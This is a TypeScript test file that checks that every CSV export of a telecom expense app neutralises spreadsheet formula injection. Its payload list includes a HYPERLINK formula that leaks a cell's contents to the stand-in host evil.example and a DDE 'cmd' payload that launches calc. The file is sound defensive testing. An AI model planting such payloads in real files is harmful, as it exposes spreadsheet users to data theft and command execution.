/**
 * Every CSV TEM Desk writes neutralises formulas. Each export below is fed text fields holding
 * spreadsheet payloads; no cell of its output may start with what a spreadsheet runs, unless it is
 * a plain number. The last test makes sure no CSV writer is left out of this list.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { chargesCsv, findingsCsv, invoicesCsv } from '../../../electron/cli/audit-command';
import type { Workspace } from '../../../electron/cli/workspace';
import { letterCsv } from '../../../renderer/features/findings/letter';
import { allocateMonth } from '../../../shared/allocation';
import { contractRatesToCsv, contractsToCsv } from '../../../shared/contracts/csv-export';
import { registerCsv } from '../../../electron/cli/payments-command';
import type { IsoDate } from '../../../shared/dates/iso-date';
import { chargebackCsv, glJournalCsv, STANDARD_PRESET } from '../../../shared/export/chargeback';
import { buildPaymentFile, STANDARD_PAYMENT_PRESET } from '../../../shared/export/payment-file';
import { inventoryCsv } from '../../../shared/inventory/export';
import { costCentersCsv } from '../../../shared/inventory/cost-centers-file';
import { budgetCsv } from '../../../shared/budget/file';
import { forecastCsv, varianceCsv } from '../../../shared/budget/report';
import { forecastYear } from '../../../shared/budget/forecast';
import { budgetVariance } from '../../../shared/budget/variance';
import { sitesCsv } from '../../../shared/inventory/sites-file';
import { manualInvoiceCsv } from '../../../shared/billing/manual-original';
import type { OptimisationLine } from '../../../shared/audit/optimisation';
import { changeListCsv, optimisationCsv } from '../../../shared/audit/optimisation-export';
import { cents } from '../../../shared/money/cents';
import { isoDate, isoMonth } from '../../../shared/dates/iso-date';
import { makeInvoice } from '../audit/helpers';
import { bills, company, costCenter, line, service, site } from '../allocation/helpers';
import { makeDraftInvoice, makeDraftLine } from '../../helpers/drafts';
import { makeService, makeSite } from '../../helpers/inventory';
import { makeContract } from '../contracts/helpers';

/** Payloads a hostile bill or a colleague's spreadsheet can carry into our data. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '-2+3',
  '\tTAB-started',
  '\rCR-started',
] as const;

const [HYPERLINK, CMD, AT_SUM, MINUS, TAB, CR] = FORMULA_PAYLOADS;
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;
const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;

function cellsOf(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  return parsed.data.flat();
}

function expectNeutralised(csv: string, planted: readonly string[]): void {
  const cells = cellsOf(csv);
  const dangerous = cells.filter((cell) => RUNS_AS_FORMULA.test(cell) && !PLAIN_NUMBER.test(cell));
  expect(dangerous).toEqual([]);
  // The payloads did reach the file (guarded), so the check above is not vacuous.
  for (const payload of planted) expect(cells).toContain(`'${payload}`);
}

const workspace: Workspace = {
  carriers: [{ id: 'lumen', name: AT_SUM }],
  accounts: [],
  sites: [],
  costCenters: [],
  services: [],
  contracts: [],
  invoices: [makeInvoice({ invoiceNumber: HYPERLINK, accountNumber: CMD })],
  chargeBlocks: [],
  lines: [],
  linesFromBackup: 0,
  usage: [],
  repeatedInvoices: [],
  billFiles: 1,
  warnings: [],
  unreadRows: [],
  unlistedUnreadRows: 0,
  notices: [],
  skippedRows: [],
  billNotes: [],
};
const draftInvoice = makeDraftInvoice();
const hostileLine = makeDraftLine(draftInvoice, 'recurring', -5_25, {
  serviceIdRaw: MINUS,
  description: TAB,
  sourceFile: CR,
});

const allocationInput = company({
  costCenters: [costCenter('a', { code: CMD, name: HYPERLINK })],
  sites: [site('site-1', { code: AT_SUM, name: MINUS, costCenterId: 'a' })],
  services: [service('s1', { siteId: 'site-1', userName: TAB })],
  carriers: [{ id: 'vz', name: CR }],
  ...bills([
    {
      id: 'i1',
      accountNumber: MINUS,
      lines: [
        line('s1', 'recurring', 45_00, { description: HYPERLINK }),
        line('x', 'credit', -5_25),
      ],
    },
  ]),
});
const allocation = allocateMonth(allocationInput);
const chargebackNames = {
  costCenters: allocationInput.costCenters,
  carriers: allocationInput.carriers,
  sites: allocationInput.sites,
};

/** Every CSV export, with hostile text in its text fields, and which payloads it carries. */
const EXPORTS: [name: string, csv: () => string, planted: readonly string[]][] = [
  [
    'inventory (shared/inventory/export.ts)',
    () =>
      inventoryCsv({
        services: [
          makeService({ description: HYPERLINK, plan: CMD, userName: AT_SUM, department: MINUS }),
        ],
        sites: [makeSite({ name: TAB })],
        costCenters: [],
        accounts: [{ id: 'account-1', carrierId: 'carrier-1', accountNumber: CR, status: 'open' }],
        carriers: [{ id: 'carrier-1', name: 'Lumen' }],
        contracts: [],
      }),
    [HYPERLINK, CMD, AT_SUM, MINUS, TAB, CR],
  ],
  [
    'sites (shared/inventory/sites-file.ts)',
    () =>
      sitesCsv(
        [makeSite({ name: HYPERLINK, street: CMD, city: AT_SUM, region: MINUS, postalCode: TAB })],
        [],
      ),
    [HYPERLINK, CMD, AT_SUM, MINUS, TAB],
  ],
  [
    'contracts (shared/contracts/csv-export.ts)',
    () =>
      contractsToCsv(
        [makeContract({ id: MINUS, name: HYPERLINK, accountIds: ['a1'] })],
        new Map([[makeContract().carrierId, { name: CMD }]]),
        new Map([['a1', { accountNumber: AT_SUM }]]),
      ),
    [HYPERLINK, CMD, AT_SUM, MINUS],
  ],
  [
    'rates (shared/contracts/csv-export.ts)',
    () =>
      contractRatesToCsv(
        [
          {
            id: TAB,
            rateCard: [
              { planOrServiceType: HYPERLINK, monthlyRateCents: cents(45_00) },
              { serviceId: 'svc', monthlyRateCents: cents(10_00) },
            ],
          },
        ],
        new Map([['svc', CMD]]),
      ),
    [HYPERLINK, CMD, TAB],
  ],
  [
    'cost centers (shared/inventory/cost-centers-file.ts)',
    () =>
      costCentersCsv([
        { id: 'cc-1', code: MINUS, name: HYPERLINK, glAccount: CMD, active: true },
        { id: 'cc-2', code: AT_SUM, name: TAB, active: false },
      ]),
    [HYPERLINK, CMD, AT_SUM, MINUS, TAB],
  ],
  [
    'budget (shared/budget/file.ts)',
    () =>
      budgetCsv(
        [
          {
            id: 'b1',
            costCenterId: 'cc-1',
            carrierId: 'car-1',
            month: isoMonth(2026, 1),
            amount: cents(5),
          },
        ],
        [{ id: 'cc-1', code: MINUS, name: 'x', active: true }],
        [{ id: 'car-1', name: HYPERLINK }],
      ),
    [MINUS, HYPERLINK],
  ],
  [
    'budget variance (shared/budget/report.ts)',
    () =>
      varianceCsv(
        budgetVariance(
          [allocation.month],
          [],
          [
            {
              month: allocation.month,
              byCostCenter: new Map([['cc-1', cents(100)]]),
              byCostCenterCarrier: new Map(),
              allocated: cents(100),
              unallocated: cents(0),
            },
          ],
        ).rows,
        {
          costCenters: [{ id: 'cc-1', code: AT_SUM, name: CMD, active: true }],
          carriers: [],
        },
      ),
    [`${AT_SUM} ${CMD}`],
  ],
  [
    'forecast (shared/budget/report.ts)',
    () =>
      forecastCsv(
        forecastYear({
          today: isoDate(2026, 11, 16),
          runRateMonths: 1,
          history: [{ ...allocation, month: isoMonth(2026, 10) }],
          services: [],
          sites: [],
          accounts: [],
          costCenters: [],
          rules: [],
          contracts: [],
          budgets: [],
        }),
        { costCenters: allocationInput.costCenters, carriers: allocationInput.carriers },
      ),
    [CR, `${CMD} ${HYPERLINK}`],
  ],
  [
    'chargeback detail (shared/export/chargeback-csv.ts)',
    () => chargebackCsv(allocation, chargebackNames, STANDARD_PRESET),
    [HYPERLINK, CMD, AT_SUM, MINUS, CR],
  ],
  [
    'GL journal (shared/export/chargeback-csv.ts)',
    () => glJournalCsv(allocation, chargebackNames, allocation.month),
    [CMD],
  ],
  [
    'dispute claim (renderer/features/findings/letter.ts)',
    () =>
      new TextDecoder().decode(
        letterCsv(
          {
            id: 'd1',
            carrierId: 'lumen',
            accountNumber: CMD,
            findingIds: [],
            claimedAmount: cents(5_00),
            creditedAmount: cents(0),
            status: 'submitted',
            carrierReference: AT_SUM,
            openedOn: makeInvoice().invoiceDate,
          },
          HYPERLINK,
          [
            {
              findingId: 'f1',
              rule: MINUS,
              invoiceNumber: TAB,
              invoiceDate: '2026-05-01',
              lines: '12',
              service: CR,
              explanation: HYPERLINK,
              billed: cents(-5_25),
              expected: cents(0),
              difference: cents(-5_25),
            },
          ],
        ),
      ),
    [HYPERLINK, CMD, AT_SUM, MINUS, TAB, CR],
  ],
  [
    'payment file (shared/export/payment-file.ts)',
    () =>
      new TextDecoder().decode(
        buildPaymentFile({
          invoices: [
            makeInvoice({
              status: 'approved',
              dueDate: '2026-12-01' as IsoDate,
              // A payment: an invoice of $0.00 (or a credit) is not written to the file.
              linesTotal: cents(1_00),
              remitTo: HYPERLINK,
              accountNumber: CMD,
              invoiceNumber: AT_SUM,
            }),
          ],
          allocation: { ...allocationInput, markups: {} },
          names: { carriers: [{ id: makeInvoice().carrierId, name: MINUS }], costCenters: [] },
          preset: STANDARD_PAYMENT_PRESET,
          format: 'csv',
          batch: TAB,
          from: '2000-01-01' as IsoDate,
          to: '2100-12-31' as IsoDate,
          includeExported: true,
        }).bytes,
      ),
    [HYPERLINK, CMD, AT_SUM, MINUS],
  ],
  [
    'CLI payments register (electron/cli/payments-command.ts)',
    () => registerCsv([[MINUS, CMD, AT_SUM, TAB, HYPERLINK]]),
    [HYPERLINK, CMD, AT_SUM, MINUS, TAB],
  ],
  [
    'CLI findings.csv (electron/cli/audit-command.ts)',
    () =>
      findingsCsv(workspace, [
        {
          id: 'x',
          ruleId: 'late-fee',
          severity: 'warning',
          subject: { carrierId: 'lumen', accountNumber: CMD, serviceIdRaw: MINUS },
          impact: cents(-5_25),
          message: HYPERLINK,
        },
      ]),
    [HYPERLINK, CMD, AT_SUM, MINUS],
  ],
  [
    'CLI invoices.csv (electron/cli/audit-command.ts)',
    () => invoicesCsv(workspace),
    [HYPERLINK, CMD, AT_SUM],
  ],
  [
    'CLI charges.csv (electron/cli/audit-command.ts)',
    () =>
      chargesCsv({
        ...workspace,
        lines: [{ invoiceId: workspace.invoices[0]?.id ?? '', line: hostileLine }],
      }),
    [HYPERLINK, CMD, AT_SUM, MINUS, TAB, CR],
  ],
  [
    'typed original of a paper bill (shared/billing/manual-original.ts)',
    () =>
      new TextDecoder().decode(
        manualInvoiceCsv({
          carrierName: AT_SUM,
          accountNumber: CMD,
          invoiceNumber: HYPERLINK,
          invoiceDate: '2026-11-01' as IsoDate,
          statedTotal: cents(-5_25),
          lines: [
            {
              category: 'credit',
              serviceIdRaw: MINUS,
              serviceKey: null,
              description: TAB,
              amount: cents(-5_25),
            },
          ],
        }),
      ),
    [HYPERLINK, CMD, AT_SUM, MINUS, TAB],
  ],
  [
    'optimisation table and change list (shared/audit/optimisation-export.ts)',
    () => {
      const planted: OptimisationLine = {
        serviceId: 'service-1',
        carrier: HYPERLINK,
        account: CMD,
        line: AT_SUM,
        site: MINUS,
        costCenter: TAB,
        currentPlan: CR,
        currentMonthlyCents: 5_000,
        months: [],
        usage: { data: null, voice: null, messages: null },
        newPlan: HYPERLINK,
        newMonthlyCents: 3_000,
        monthlySavingCents: 2_000,
        overageCents: 0,
        advice: 'change',
      };
      return optimisationCsv([planted]) + changeListCsv([planted]);
    },
    [HYPERLINK, CMD, AT_SUM, MINUS, TAB, CR],
  ],
];

describe('every CSV export neutralises formulas', () => {
  it.each(EXPORTS)('%s', (_name, csv, planted) => {
    expectNeutralised(csv(), planted);
  });

  it('keeps plain numbers as numbers, so the exports still add up', () => {
    const cells = cellsOf(chargebackCsv(allocation, chargebackNames, STANDARD_PRESET));
    expect(cells).toContain('-5.25');
    expect(cells).toContain('45.00');
  });

  it('covers every file that writes CSV', () => {
    const root = join(import.meta.dirname, '../../..');
    const writers = ['shared', 'renderer', 'electron']
      .flatMap((folder) => sourceFiles(join(root, folder)))
      .filter((file) => /\btoCsv(Bytes)?\(/.test(readFileSync(file, 'utf8')))
      .map((file) => relative(root, file))
      .filter((file) => file !== join('shared', 'export', 'csv.ts'));
    const covered = new Set(EXPORTS.map(([name]) => /\(([^)]+)\)$/.exec(name)?.[1]));
    expect(writers.filter((file) => !covered.has(file.split('\\').join('/')))).toEqual([]);
  });
});

function sourceFiles(folder: string): string[] {
  return readdirSync(folder, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile() && /\.tsx?$/.test(entry.name))
    .map((entry) => join(entry.parentPath, entry.name));
}
